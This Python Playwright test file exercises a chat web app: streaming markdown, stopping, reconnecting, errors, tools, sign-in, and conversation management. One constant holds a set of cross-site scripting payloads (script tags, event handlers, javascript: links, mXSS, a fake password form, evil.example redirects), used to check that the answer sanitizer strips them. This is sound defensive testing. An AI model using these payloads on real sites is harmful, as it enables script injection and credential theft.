"""The chat page in a real browser: ask, stop, leave, come back, and hostile answers."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, Route, expect

from tests.browser.environment import Environment, sign_in
from tests.browser.proxy import Proxy
from tests.upstream import Hold, Script, broken, calling, holding, refusing, reply

pytestmark = [pytest.mark.browser, pytest.mark.server]

WELCOME = "What would you like to know?"
RICH = """## Gates

| Gate | Qubits |
|:-----|-------:|
| H    | 1      |

```python
def bell(n: int = 2):
    return n < 3
```
"""
HOSTILE = """Hello <script>pwned = 1</script><img src="https://evil.example/a.png" onerror="pwned = 2">

![beacon](https://evil.example/b.png "x") ![own](/admin/)
<svg onload="pwned = 3"><style>body{display:none}</style></svg>

<style>body { background: url(https://evil.example/c) }</style>
<p style="position:fixed;inset:0" class="composer" id="ask" onclick="pwned = 4">styled</p>
<form action="https://evil.example/d"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/e" srcdoc="<script>parent.pwned = 5</script>"></iframe>
<link rel="stylesheet" href="https://evil.example/f"><meta http-equiv="refresh" content="0;url=https://evil.example/g">
<base href="https://evil.example/"><object data="https://evil.example/h"></object><video src="https://evil.example/i">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=6&gt;"></math>

[a](javascript:pwned=7) [b](JaVaScRiPt&colon;pwned=8) [c](data:text/html,<script>pwned=9</script>) [d](vbscript:x)
[e](/admin/logout/) [f](//evil.example/j) <a href=" javascript:pwned=10">g</a> [h](https://evil.example/k)

```html" onmouseover="pwned=11
<script>pwned = 12</script>
```

The end.
"""


@pytest.fixture
def context(environment: Environment) -> Iterator[BrowserContext]:
    with environment.context() as context:
        yield context


@pytest.fixture
def page(context: BrowserContext) -> Page:
    page = context.new_page()
    page.goto("/")
    return page


def ask(page: Page, question: str) -> None:
    page.get_by_label("Ask something").fill(question)
    page.get_by_role("button", name="Ask", exact=True).click()


def answer(page: Page) -> Locator:
    return page.locator(".answer").last


def ended(page: Page) -> None:
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()


def test_markdown_shows_while_it_grows(environment: Environment, page: Page, context: BrowserContext) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    hold = Hold()
    environment.upstream.script = holding(*re.findall(r"(?s).{1,9}", RICH[:-4]), hold=hold, then=["```\n\n*Done*"])
    ask(page, "Which gates?")
    expect(answer(page).locator("td").nth(1)).to_have_css("text-align", "end")
    expect(answer(page).locator(".hljs-keyword").first).to_have_text("def")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    before = answer(page).locator("table").element_handle()
    hold.release()
    expect(answer(page).locator("em")).to_have_text("Done")
    ended(page)
    # What stands is left alone, so that it can be selected while the rest comes.
    assert before.evaluate("table => table.isConnected")

    page.get_by_role("button", name="Copy", exact=True).click()
    assert page.evaluate("navigator.clipboard.readText()") == "def bell(n: int = 2):\n    return n < 3"
    expect(page.locator(".numbers")).to_be_hidden()
    page.get_by_label("Show tokens and times").check()
    numbers = r"5 tokens in · 2 out · first after [\d.]+ s · [\d.]+ tokens/s · [\d.]+ s in all · openai:test"
    expect(page.locator(".numbers")).to_have_text(re.compile(numbers))
    expect(page.get_by_role("button", name="Copy", exact=True)).to_be_visible()
    shown = answer(page).inner_html()
    page.reload()
    expect(page.locator(".numbers")).to_be_visible()
    assert answer(page).inner_html() == shown


@pytest.mark.parametrize("size", [len(HOSTILE), 7])
def test_a_hostile_answer_does_nothing(environment: Environment, page: Page, size: int) -> None:
    environment.upstream.script = reply(*re.findall(rf"(?s).{{1,{size}}}", HOSTILE))
    ask(page, "<img src=x onerror=pwned=0>")
    expect(answer(page)).to_contain_text("The end.")
    ended(page)
    page.reload()
    expect(answer(page)).to_contain_text("The end.")
    for link in answer(page).locator("a[href]").all():
        assert re.match(r"https://evil\.example/[abk]", link.get_attribute("href") or "")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    unwanted = (
        "script, style, link, meta, base, img, svg, math, iframe, object, video, form, input, [style], [id], [name]"
    )
    assert answer(page).locator(unwanted).count() == 0
    assert answer(page).locator(".composer").count() == 0
    attributes = "element => [...element.querySelectorAll('*')].flatMap(each => each.getAttributeNames())"
    names = set(answer(page).evaluate(attributes))
    assert names <= {"href", "target", "rel", "title", "dir", "class", "tabindex", "type", "align"}
    assert page.evaluate("window.pwned") is None
    # The browser's own complaints, the policy's and requests elsewhere fail the test when the context closes.


def test_stop_keeps_what_was_said(environment: Environment, page: Page) -> None:
    environment.upstream.script = holding("Half an")
    ask(page, "Go on for ever")
    expect(answer(page)).to_have_text("Half an")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".ending")).to_have_text("Stopped.")
    ended(page)
    expect(page.get_by_label("Ask something")).to_be_focused()
    page.reload()
    expect(answer(page)).to_have_text("Half an")
    expect(page.locator(".ending")).to_have_text("Stopped.")


def test_a_slow_first_token_shows_that_it_is_alive_and_can_be_stopped(environment: Environment, page: Page) -> None:
    environment.upstream.script = holding()
    ask(page, "Think hard")
    expect(page.locator(".waiting")).to_have_text(re.compile(r"Thinking… \d s"))
    page.keyboard.press("Escape")
    expect(page.locator(".ending")).to_have_text("Stopped.")
    expect(page.locator(".waiting")).to_be_hidden()


def test_a_reload_in_mid_answer_picks_it_up(environment: Environment, page: Page) -> None:
    hold = Hold()
    environment.upstream.script = holding("One, ", "two, ", hold=hold, then=["three."])
    ask(page, "Count")
    expect(answer(page)).to_have_text("One, two,")
    page.reload()
    expect(answer(page)).to_have_text("One, two,")
    page.get_by_role("link", name="New conversation").click()
    expect(page.get_by_text(WELCOME)).to_be_visible()
    page.go_back()
    expect(answer(page)).to_have_text("One, two,")
    hold.release()
    expect(answer(page)).to_have_text("One, two, three.")
    ended(page)
    assert len(environment.upstream.requests) >= 1


def test_a_lost_connection_in_mid_answer_is_picked_up(environment: Environment) -> None:
    hold = Hold()
    environment.upstream.script = holding("One, two, ", hold=hold, then=["three."])
    cursors: list[str | None] = []
    with Proxy(environment.service.url).in_thread() as proxy, environment.context(proxy.url) as context:
        page = context.new_page()
        page.on("request", lambda request: cursors.append(request.headers.get("last-event-id")))
        page.goto("/")
        ask(page, "Count")
        expect(answer(page)).to_have_text("One, two,")
        proxy.cut()
        expect(page.locator(".waiting")).to_contain_text("Connection lost, trying again")
        hold.release()
        proxy.restore()
        expect(answer(page)).to_have_text("One, two, three.")
        ended(page)
    assert set(filter(None, cursors)) == {"2"}


def test_a_question_whose_answer_never_came_is_not_asked_twice(environment: Environment, page: Page) -> None:
    environment.upstream.script = reply("Only once.")
    before = len(environment.upstream.requests)

    def lose_the_answer(route: Route) -> None:
        route.fetch()
        route.abort()

    page.route("**/api/agent/chat*", lose_the_answer, times=1)
    ask(page, "Once?")
    expect(page.locator(".failure")).to_contain_text("The service can't be reached.")
    page.reload()
    expect(answer(page)).to_have_text("Only once.")
    ended(page)
    assert len(environment.upstream.requests) == before + 1


@pytest.mark.parametrize(
    ("script", "sentence"),
    [
        (refusing(500), "The model failed."),
        (broken("Half "), "The model's server hung up."),
    ],
)
def test_an_error_says_what_happened_and_offers_to_try_again(
    environment: Environment, page: Page, script: Script, sentence: str
) -> None:
    environment.upstream.script = script
    ask(page, "Hi")
    expect(page.locator(".failure")).to_contain_text(sentence)
    page.reload()
    expect(page.locator(".failure")).to_contain_text(sentence)
    environment.upstream.script = reply("Better.")
    page.get_by_role("button", name="Try again").click()
    expect(answer(page)).to_have_text("Better.")
    ended(page)
    expect(page.locator(".prompt").last).to_have_text("Hi")


def test_what_is_refused_says_why_and_is_there_to_be_changed(environment: Environment, page: Page) -> None:
    ask(page, "x" * 32_001)
    expect(page.locator(".failure")).to_contain_text("This has 32001 characters; at most 32000 are allowed.")
    expect(page.get_by_role("button", name="Try again")).to_be_hidden()
    expect(page.get_by_label("Ask something")).to_have_value("x" * 32_001)
    ended(page)


def test_tools_are_folded_and_their_sources_are_links(environment: Environment, page: Page) -> None:
    environment.upstream.scripts = [calling(("search", {"query": "quark or curd"})), reply("A particle [1].")]
    page.get_by_label("Agent", exact=True).select_option("Researcher")
    ask(page, "What is a quark?")
    for _ in range(2):
        expect(answer(page)).to_have_text("A particle [1].")
        tool = page.locator(".tool")
        expect(tool.locator(".result")).to_be_hidden()
        tool.locator("summary").click()
        expect(tool.locator(".parameters")).to_have_text('{\n  "query": "quark or curd"\n}')
        expect(tool.locator(".result")).to_contain_text("elementary particle")
        expect(tool.locator(".result")).to_contain_text("javascript:")
        [link] = page.locator(".sources a").all()
        assert (link.inner_text(), link.get_attribute("href")) == ("Quark", "https://quark.example/")
        page.reload()
    expect(page.get_by_label("Agent", exact=True)).to_have_value("researcher")


def test_a_conversation_goes_on_with_what_was_said(environment: Environment, page: Page) -> None:
    environment.upstream.script = reply("Hello, Ada.")
    ask(page, "I am Ada.")
    ended(page)
    environment.upstream.script = reply("Ada.")
    ask(page, "Who am I?")
    expect(answer(page)).to_have_text("Ada.")
    ended(page)
    said = [each["content"] for each in environment.upstream.requests[-1].body["messages"]]
    assert said[-3:] == ["I am Ada.", "Hello, Ada.", "Who am I?"]


def test_a_browser_remembers_what_nobody_signed_in_for(environment: Environment, page: Page) -> None:
    environment.upstream.script = reply("Fine.")
    for question in ("First?", "Second?"):
        page.get_by_role("link", name="New conversation").click()
        ask(page, question)
        ended(page)
    listed = page.locator("#conversations a")
    expect(listed).to_have_text(["Second?", "First?"])
    page.get_by_label("Search conversations").fill("first")
    expect(listed).to_have_text(["First?"])
    listed.click()
    expect(page.locator(".prompt")).to_have_text("First?")
    with environment.context() as another:
        elsewhere = another.new_page()
        elsewhere.goto(page.url)
        # Who has the link may read it, and then finds it again.
        expect(elsewhere.locator(".prompt")).to_have_text("First?")
        expect(elsewhere.locator("#conversations a")).to_have_text(["First?"])
        elsewhere.goto("/?conversation=conv_unknown")
        expect(elsewhere.locator(".failure")).to_contain_text("There is no such conversation.")


def test_who_has_to_sign_in_is_offered_to(environment: Environment) -> None:
    # A proxy's header: development's leave to call without a session ends with it.
    with environment.context(extra_http_headers={"X-Forwarded-For": "192.0.2.1"}) as context:
        page = context.new_page()
        page.goto("/?several")
        expect(page.locator("#several")).to_be_visible()
        page.goto("/")
        expect(page.locator(".failure .sentence")).to_contain_text("Authentication credentials were not provided.")
        page.locator(".failure").get_by_role("link", name="Sign in").click()
        sign_in(page)
        expect(page.get_by_text("Signed in as ada")).to_be_visible()
        environment.upstream.script = reply("Hello.")
        ask(page, "Hi")
        expect(answer(page)).to_have_text("Hello.")
        ended(page)
        context.clear_cookies()
        ask(page, "Still there?")
        expect(page.locator(".failure").get_by_role("link", name="Sign in")).to_be_visible()


def test_conversations_are_searched_renamed_exported_and_deleted(environment: Environment, page: Page) -> None:
    page.get_by_role("link", name="Sign in").click()
    sign_in(page)
    environment.upstream.script = reply("A *particle*.")
    for question in ("What is a quark?", "What is a lark?"):
        page.get_by_role("link", name="New conversation").click()
        ask(page, question)
        ended(page)
    listed = page.locator("#conversations a")
    page.get_by_label("Search conversations").fill("particle quark")
    expect(listed).to_have_text(["What is a quark?"])
    listed.click()

    page.get_by_text("Actions").click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_label("Name", exact=True).fill("ما هو الكوارك؟")
    page.get_by_role("dialog").get_by_role("button", name="Rename").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("ما هو الكوارك؟")
    expect(listed).to_have_text(["ما هو الكوارك؟"])

    for name, expected in (("Markdown", "A *particle*."), ("JSON", '"response":"A *particle*."')):
        page.get_by_text("Actions").click()
        with page.expect_download() as download:
            page.get_by_role("link", name=f"Export as {name}").click()
        assert download.value.suggested_filename.startswith("ما-هو-الكوارك.")
        assert expected in download.value.path().read_text()
        page.get_by_text("Actions").click()

    page.get_by_text("Actions").click()
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Keep it").click()
    page.get_by_text("Actions").click()
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(page.get_by_text(WELCOME)).to_be_visible()
    expect(page.get_by_text("Nothing was found.")).to_be_visible()
    page.get_by_label("Search conversations").fill("")
    expect(listed.first).to_have_text("What is a lark?")
    page.get_by_role("button", name="Sign out").click()
    page.goto("/")
    expect(listed).to_have_count(0)
